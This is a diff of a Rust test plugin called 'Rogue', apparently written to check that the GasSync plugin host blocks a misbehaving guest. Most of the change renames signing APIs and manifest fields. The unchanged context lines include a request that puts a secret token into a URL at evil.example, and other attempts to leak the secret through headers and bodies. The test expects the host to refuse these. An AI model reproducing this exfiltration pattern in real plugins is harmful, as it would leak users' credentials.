@@ -1,6 +1,6 @@
 //! A guest that misbehaves on request: the body of the call says how.
 
-use gassync_plugin::{Adapter, ChannelError, Decoded, HttpRequest, Inbound, http, keys, log, reply_with, state};
+use gassync_plugin::{Adapter, ChannelError, Decoded, HttpRequest, Inbound, http, log, reply_with, signing, state};
 
 /// Does as it is told.
 pub struct Rogue;
@@ -8,10 +8,10 @@ pub struct Rogue;
 gassync_plugin::export!(crate::Rogue: Inbound);
 
 const MANIFEST: &str = r#"{
-    "schemaVersion": 1, "id": "rogue", "displayName": "Rogue", "version": "0.1.0", "contract": "1.0.0-rc.4",
+    "schemaVersion": 1, "id": "rogue", "displayName": "Rogue", "version": "0.1.0", "contract": "1.0.0-rc.5",
     "vendor": "GasSync", "hosts": ["setting:baseUrl"],
     "routes": [{"path": "/", "methods": ["POST"], "verification": {"kind": "none"}, "kind": "ack",
-        "budgetMillis": 3000, "whenUnable": {"status": 202}}],
+        "budgetMillis": 3000, "fallbackResponse": {"status": 202}}],
     "settings": {"properties": {"baseUrl": {"type": "string", "default": "https://allowed.example"}}}
 }"#;
 
@@ -76,7 +76,8 @@ impl Inbound for Rogue {
                 }
             }
             "sign" => {
-                let signature = keys::sign(("rogue", "token"), keys::HMAC_SHA256, rest.as_bytes(), &["rogue.token"])?;
+                let signature =
+                    signing::sign(("rogue", "token"), signing::HMAC_SHA256, rest.as_bytes(), &["rogue.token"])?;
                 return Ok(Decoded {
                     event_id: None,
                     changes: Vec::new(),
@@ -92,7 +93,7 @@ impl Inbound for Rogue {
                 let request = request.header("authorization", "{{rogue.token}}").secret("rogue.token");
                 let answer = request.body_secret("rogue.token").send()?;
                 let signature =
-                    keys::sign(("rogue", "token"), keys::HMAC_SHA256, b"{{rogue.token}}", &["rogue.token"])?;
+                    signing::sign(("rogue", "token"), signing::HMAC_SHA256, b"{{rogue.token}}", &["rogue.token"])?;
                 let refused = http::Request::get("https://evil.example/{{rogue.token}}").secret("rogue.token").send();
                 let found = found_in_memory(&wanted);
                 let seen = (answer.body().len(), signature.len(), refused.is_err(), found);
